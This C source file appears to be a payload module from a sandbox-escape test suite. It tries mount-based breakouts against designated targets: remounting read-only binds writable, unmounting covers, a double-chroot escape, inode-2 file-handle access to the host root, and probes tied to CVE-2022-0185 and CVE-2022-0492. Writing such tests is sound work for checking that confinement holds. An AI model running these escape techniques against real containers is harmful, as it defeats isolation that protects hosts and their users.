/* SPDX-License-Identifier: Apache-2.0 */
/* Undoing mounts, making new ones, and going around them. Targets: RO read-only bind with "file",
 * HIDDEN covered directory with a secret beneath the cover, D directory that is not granted. With
 * SETUP=mounts the payload makes such mounts itself: that is the positive control. */
#include "payload.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif

static void remount_writable(void)
{
	struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
	const char *read_only = target("RO");

	if (mount(NULL, read_only, NULL, MS_REMOUNT | MS_BIND, NULL))
		note("remount: %s", strerror(errno));
	if (syscall(SYS_mount_setattr, AT_FDCWD, read_only, AT_RECURSIVE, &clear, sizeof(clear)))
		note("mount_setattr: %s", strerror(errno));
	deface_path(below("RO", "file"));
}

/* A clone of the tree loses what is mounted upon it, and its read-only bit may be cleared. */
static void clone_tree(void)
{
	struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
	autoclose int tree = (int)syscall(
		SYS_open_tree, AT_FDCWD, target("RO"), OPEN_TREE_CLONE | AT_RECURSIVE | O_CLOEXEC);
	autoclose int bare = (int)syscall(
		SYS_open_tree, AT_FDCWD, target_or("PARENT", "/"), OPEN_TREE_CLONE | O_CLOEXEC);

	got(tree, "open_tree");
	got(bare, "open_tree without what is mounted upon it");
	if (tree >= 0 &&
		!syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &clear, sizeof(clear)))
		deface(openat(tree, "file", O_WRONLY | O_TRUNC | O_CLOEXEC));
}

static void uncover(void)
{
	const char *hidden = target("HIDDEN");

	if (umount2(hidden, MNT_DETACH))
		note("umount: %s", strerror(errno));
	if (umount2(hidden, UMOUNT_NOFOLLOW))
		note("umount: %s", strerror(errno));
	spill_path(below("HIDDEN", "canary"));
}

static void cover(void)
{
	static const char *const places[] = {"/proc", "/tmp", "/dev"};

	got(mount("tmpfs", target("RO"), "tmpfs", 0, NULL), "tmpfs over a read-only grant");
	for (size_t i = 0; i < array_size(places); i++)
		got(mount("tmpfs", places[i], "tmpfs", 0, NULL), places[i]);
	got(mount("/", target("W"), NULL, MS_BIND | MS_REC, NULL), "bind of the root");
	got(mount("proc", target("W"), "proc", 0, NULL), "a second proc");
}

static void new_mount_api(void)
{
	static const char *const types[] = {
		"tmpfs", "proc", "overlay", "fuse", "cgroup2", "sysfs", "9p", "nfs4"};
	char long_key[256];

	memset(long_key, 'A', sizeof(long_key) - 1);
	long_key[sizeof(long_key) - 1] = '\0';
	for (size_t i = 0; i < array_size(types); i++) {
		autoclose int context = (int)syscall(SYS_fsopen, types[i], 1);

		if (context < 0) {
			note("fsopen %s: %s", types[i], strerror(errno));
			continue;
		}
		proof("fsopen %s", types[i]);
		/* The way to CVE-2022-0185: many long keys. The call is enough, nothing is
		 * overflowed. */
		if (syscall(SYS_fsconfig, context, 1, long_key, "v", 0))
			note("fsconfig: %s", strerror(errno));
	}
	got(syscall(SYS_fspick, AT_FDCWD, "/", 0), "fspick");
}

/* Root in a namespace of its own may mount: then every cover can be taken off. */
static void namespace_mounts(void)
{
	static const int kinds[] = {CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNS,
		CLONE_NEWUSER | CLONE_NEWNET, CLONE_NEWUSER | CLONE_NEWPID,
		CLONE_NEWUSER | CLONE_NEWCGROUP, CLONE_NEWUTS, CLONE_NEWIPC,
		0x00000080 /* CLONE_NEWTIME */};

	for (size_t i = 0; i < array_size(kinds); i++) {
		pid_t pid = (pid_t)syscall(
			SYS_clone, (unsigned long)kinds[i] | 17 /* SIGCHLD */, 0, 0, 0, 0);

		if (pid == 0)
			_exit(0);
		if (pid > 0 && kinds[i] != 0x00000080)
			proof("clone with flags %#x", (unsigned int)kinds[i]);
	}
	for (size_t i = 0; i < array_size(kinds); i++)
		if (!unshare(kinds[i]))
			proof("unshare with flags %#x", (unsigned int)kinds[i]);
	if (!mount("tmpfs", "/tmp", "tmpfs", 0, NULL))
		proof("tmpfs in a namespace of our own");
	remount_writable();
	uncover();
}

static void namespaces_child(void)
{
	named_variant("namespaces", namespace_mounts);
}

/* CVE-2022-0492: a cgroup v1 hierarchy whose release_agent runs on the host. */
static void release_agent(void)
{
	mkdir(below("W", "cgroup"), 0755);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
		note("unshare: %s", strerror(errno));
	if (!mount("cgroup", below("W", "cgroup"), "cgroup", 0, "rdma"))
		proof("cgroup v1 mounted");
	if (!mount("cgroup2", below("W", "cgroup"), "cgroup2", 0, NULL))
		proof("cgroup v2 mounted");
	if (!access("/sys/fs/cgroup/release_agent", W_OK) ||
		!access("/sys/fs/cgroup/memory/release_agent", W_OK))
		proof("a release_agent is writable");
}

static void release_agent_child(void)
{
	named_variant("release_agent", release_agent);
}

/* The classic: a second chroot leaves the working directory outside of the root. */
static void double_chroot(void)
{
	mkdir(below("W", "jail"), 0755);
	if (chroot(below("W", "jail"))) {
		note("chroot: %s", strerror(errno));
		return;
	}
	proof("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	if (!chroot("."))
		spill_path(below("D", "canary"));
}

static void change_root(void)
{
	named_variant("chroot", double_chroot);
	got(syscall(SYS_pivot_root, target("W"), target("W")), "pivot_root");
}

/* Handles reach every inode of the file system that a mount shows a part of. */
static void file_handles(void)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = {.handle.handle_bytes = MAX_HANDLE_SZ};
	autoclose int mount_fd = open(target("W"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int mount_id;

	/* Inode 2 is the root of an ext4: nothing has to be known about the host. */
	if (name_to_handle_at(AT_FDCWD, target("W"), &u.handle, &mount_id, 0))
		note("name_to_handle_at: %s", strerror(errno));
	if (u.handle.handle_type == 1) {
		autoclose int root = -1;
		uint32_t inode = 2, generation = 0;

		memcpy(u.handle.f_handle, &inode, sizeof(inode));
		memcpy(u.handle.f_handle + 4, &generation, sizeof(generation));
		root = open_by_handle_at(mount_fd, &u.handle, O_RDONLY | O_CLOEXEC);
		got(root, "open_by_handle_at of inode 2");
	}
	if (!name_to_handle_at(AT_FDCWD, target("W"), &u.handle, &mount_id, 0)) {
		autoclose int again = open_by_handle_at(mount_fd, &u.handle, O_RDONLY | O_CLOEXEC);

		got(again, "open_by_handle_at");
	}
}

static void watch_mounts(void)
{
	autoclose int fd = (int)syscall(SYS_fanotify_init, 0x4 /* FAN_CLASS_CONTENT */, O_RDONLY);

	got(fd, "fanotify_init");
	got(syscall(457 /* statmount */, NULL, NULL, 0, 0), "statmount");
}

const struct technique mount_techniques[] = {
	{"F10", "remount-writable", "seccomp, capabilities", remount_writable},
	{"F10", "clone-tree", "seccomp, capabilities", clone_tree},
	{"F10", "uncover", "seccomp, capabilities", uncover},
	{"C10", "cover", "seccomp, capabilities", cover},
	{"K10", "new-mount-api", "seccomp, capabilities", new_mount_api},
	{"C10", "namespaces", "seccomp", namespaces_child},
	{"C07", "release-agent", "seccomp, capabilities", release_agent_child},
	{"F01", "change-root", "seccomp, capabilities", change_root},
	{"F01", "file-handles", "seccomp, capabilities", file_handles},
	{"F16", "watch-mounts", "seccomp, capabilities", watch_mounts},
	{0},
};
